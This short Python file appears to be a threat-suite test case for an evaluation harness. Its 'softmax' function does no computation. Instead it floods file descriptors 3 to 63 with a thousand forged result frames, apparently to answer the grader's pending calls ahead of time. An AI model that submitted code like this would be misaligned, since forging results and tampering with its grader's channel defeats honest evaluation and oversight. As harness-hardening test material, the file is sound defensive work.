# tries: sends a thousand frames at once, for the calls that are still to come
# source: THREATS 54
# expect: zero
# says: malformed answer

import os
import struct

_text = b'{"tree": {"dict": [["nonce", "0"], ["value", 1]]}, "arrays": []}'


def softmax(x, dim):
    for descriptor in range(3, 64):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, (struct.pack("!QQ", len(_text), 0) + _text) * 1000)
        except OSError:
            pass
    return x
